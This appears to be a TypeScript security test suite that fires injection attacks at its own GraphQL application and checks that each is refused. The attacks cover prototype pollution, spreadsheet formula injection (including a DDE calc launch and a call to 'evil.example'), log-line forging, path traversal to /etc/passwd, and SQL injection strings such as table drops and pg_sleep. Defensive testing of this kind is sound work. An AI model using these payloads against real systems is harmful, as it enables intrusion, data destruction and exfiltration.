/** Attacks by what is meant for another reader: the database, the log, the program itself. */
import { parse } from 'csv-parse/sync';
import { addDays, sofiaDay } from '../../../../schema/rules/days.ts';
import { refusedBy, type Attack } from '../attack.ts';
import { answerOf, ask, send } from '../raw-request.ts';

const JSON_BODY = { 'content-type': 'application/json' };

const PREFLIGHT = { 'apollo-require-preflight': '1' };

const FORMULAS = ['=1+1', '+1+1', '-1+1', '@SUM(1)', `=cmd|' /C calc'!A0`, '=WEBSERVICE("http://evil.example/")'];

const isPolluted = (): boolean =>
  'polluted' in {} || (Object.prototype as Record<string, unknown>)['isAdmin'] !== undefined;

export const injectionAttacks: readonly Attack[] = [
  {
    name: 'prototype pollution',
    run: async ({ address }) => [
      await send(address, {
        headers: JSON_BODY,
        body: '{"query":"query ($p: String) { territories(search: $p) { totalCount } }","__proto__":{"polluted":1,"isAdmin":true},"constructor":{"prototype":{"polluted":1}},"variables":{"p":"x","__proto__":{"polluted":1},"constructor":{"prototype":{"isAdmin":true}}}}',
      }),
      await send(address, {
        method: 'GET',
        path: '/graphql?query=%7Btoday%7D&__proto__[polluted]=1&constructor[prototype][polluted]=1',
        headers: PREFLIGHT,
      }),
      await send(address, { headers: JSON_BODY, body: '{"documentId":"__proto__"}' }),
      await ask(address, '{ __proto__: today constructor: today }'),
    ],
    complaint: () => (isPolluted() ? 'the prototype of every object was changed' : null),
  },
  {
    name: 'operations of names that every object has',
    run: async ({ address }) => [
      await send(address, { headers: JSON_BODY, body: '{"query":"query a { today }","operationName":"__proto__"}' }),
      await send(address, { headers: JSON_BODY, body: '{"query":"query a { today }","operationName":"constructor"}' }),
    ],
    complaint: (answers) =>
      answers.map((answer) => refusedBy('BAD_INPUT', 'query')([answer])).find((each) => each !== null) ?? null,
  },
  {
    name: 'formulas in a file that is taken out in bulk',
    run: async ({ address }, { app, cookieOf, measureId, municipality, people }) => {
      for (const words of FORMULAS) {
        const id = crypto.randomUUID();
        const day = addDays(sofiaDay(new Date()), -70);
        const seen = { id, measureId, level: 'LIMITED', dontKnow: false, method: 'MEETING', seenOn: day, words };
        await app.ask('mutation ($input: SubmitObservationInput!) { submitObservation(input: $input) { receipt } }', {
          as: people.monitor,
          variables: { input: seen },
        });
        await app.ask('mutation ($input: DecideObservationInput!) { decideObservation(input: $input) { id } }', {
          as: people.verifier,
          variables: { input: { observationId: id, decision: 'VERIFIED', revealingReason: 'Проба' } },
        });
      }
      const headers = { cookie: await cookieOf('exporter') };
      const asked = await ask(
        address,
        `mutation { askObservationExport(input: { territory: "${municipality.code}", format: CSV, reason: "=HYPERLINK(1) за проба" }) { address } }`,
        { headers },
      );
      const { data } = JSON.parse(asked.body) as { data: { askObservationExport: { address: string } } };
      return [await send(address, { method: 'GET', path: data.askObservationExport.address, headers })];
    },
    complaint: ([file]) => {
      const table: string[][] = parse(file?.body ?? '', { bom: true });
      const cells = table.flat();
      const found = FORMULAS.filter((formula) => cells.some((cell) => cell.includes(formula)));
      if (found.length < FORMULAS.length) return `the file lacks what was written: ${found.join(' ')}`;
      const live = cells.filter((cell) => /^\s*[=+\-@]/.test(cell));
      return live.length === 0 ? null : `a spreadsheet would run ${live.join(' ')}`;
    },
  },
  {
    name: 'lines forged in the log',
    run: async (ground) => {
      const forged = '\n{"level":60,"msg":"FORGED"}\n\u001b[2J';
      const answers = [
        await send(ground.address, {
          headers: JSON_BODY,
          body: JSON.stringify({ query: `query a { today }`, operationName: forged }),
        }),
        await send(ground.address, { method: 'GET', path: `/${encodeURIComponent(forged)}` }),
        await ask(ground.address, `{ territories(search: ${JSON.stringify(forged)}) { totalCount } }`),
        await send(ground.address, { headers: { ...JSON_BODY, 'user-agent': '%0a{"level":60}' }, body: '{"query": ' }),
      ];
      const lines = ground.logged.join('').split('\n').filter(Boolean);
      const wrong = lines.filter((line) => {
        try {
          return (JSON.parse(line) as { msg?: string }).msg === 'FORGED';
        } catch {
          return true;
        }
      });
      return [...answers, answerOf(200, wrong.length === 0 ? '{}' : `forged: ${wrong.join(' | ')}`)];
    },
    complaint: (answers) => (answers.at(-1)?.body === '{}' ? null : (answers.at(-1)?.body ?? '')),
  },
  {
    name: 'stack traces asked for by everything that can be wrong',
    run: async ({ address }) => {
      const bodies = [
        '{',
        '[]',
        '1',
        'null',
        '""',
        '{"query":1}',
        '{"query":null}',
        '{"query":{}}',
        '{"query":""}',
        '{"query":"{"}',
        '{"query":"{ today }","variables":1}',
        '{"query":"{ today }","variables":"{"}',
        '{"query":"{ today }","operationName":1}',
        '{"query":"{ today }","extensions":1}',
        '{"query":"subscription { x }"}',
        '{"query":"{ nothing }"}',
        '{"query":"query ($a: Nothing) { today }"}',
        '{"query":"{ territory(code: 1) { id } }"}',
        '{"documentId":{}}',
      ];
      const answers = await Promise.all(bodies.map((body) => send(address, { headers: JSON_BODY, body })));
      const paths = [
        '/graphql?query=%',
        '/graphql?variables=%7B',
        '/%',
        '/%00',
        '/..%2f..%2fetc/passwd',
        '/assets/..%2f..%2fpackage.json',
        '/imports/plans',
        '/imports/reports/template.xlsx?plan[]=1',
        '/graphiql/..',
      ];
      return [
        ...answers,
        ...(await Promise.all(paths.map((path) => send(address, { method: 'GET', path, headers: PREFLIGHT })))),
      ];
    },
    complaint: (answers) => {
      const served = answers.filter(({ hasData }) => hasData);
      return served.length === 0 ? null : `something was answered: ${served.map(({ body }) => body).join(' ')}`;
    },
  },
  {
    name: 'SQL in words that are looked for',
    run: async ({ address }) => {
      const words = [
        "'; drop table measure; --",
        "' or '1'='1",
        '%',
        '_',
        '\\',
        "\\'; select pg_sleep(30); --",
        '$1',
        '$$;',
        'a\u0000b',
        '\uD800',
        '{"a":1}',
        "E'\\x27'",
      ];
      return Promise.all(
        words.flatMap((search) =>
          ['territories', 'organizations', 'measures'].map((list) =>
            ask(address, `query ($search: String) { ${list}(search: $search) { totalCount } }`, {
              variables: { search },
            }),
          ),
        ),
      );
    },
    complaint: async (answers, { app, measureId }) => {
      const { measure } = await app.ask('query ($id: ID!) { measure(id: $id) { id } }', {
        variables: { id: measureId },
      });
      if (measure === null) return 'the measure is gone';
      const odd = answers.find(({ hasData, problem }) => !hasData && problem?.code !== 'BAD_INPUT');
      return odd === undefined ? null : `answered ${odd.status} ${odd.body.slice(0, 200)}`;
    },
  },
  {
    name: 'SQL in cursors, codes and ids',
    run: async ({ address }) => {
      const keys = [
        ["'; drop table measure; --"],
        ['a', 'b', 'c'],
        ['', "' or true --"],
        [1],
        [null],
        [{}],
        ['0', 'x', 'not-a-uuid'],
      ];
      const cursors = [
        ...keys.map((key) => Buffer.from(JSON.stringify(key)).toString('base64url')),
        'x',
        "' or 1=1 --",
      ];
      return Promise.all([
        ...cursors.flatMap((after) =>
          ['territories', 'organizations', 'measures', 'campaigns', 'strategies', 'actionPlans', 'coalitions'].map(
            (list) =>
              ask(address, `query ($after: String) { ${list}(after: $after) { nodes { id } } }`, {
                variables: { after },
              }),
          ),
        ),
        ...["' or 1=1 --", 'not-a-uuid', '00000000-0000-0000-0000-000000000000', '\u0000'].map((id) =>
          ask(
            address,
            'query ($id: ID!) { measure(id: $id) { id } node(id: $id) { id } observation(id: $id) { id } }',
            { variables: { id } },
          ),
        ),
        ask(address, `{ territory(code: "' or 1=1 --") { id } }`),
        ask(address, `{ territories(within: "' or 1=1 --") { nodes { id } } }`),
      ]);
    },
    complaint: async (answers, { app, measureId }) => {
      const { measure } = await app.ask('query ($id: ID!) { measure(id: $id) { id } }', {
        variables: { id: measureId },
      });
      if (measure === null) return 'the measure is gone';
      const odd = answers.find(({ hasData, problem }) => !hasData && problem?.code !== 'BAD_INPUT');
      return odd === undefined ? null : `answered ${odd.status} ${odd.body.slice(0, 200)}`;
    },
  },
];
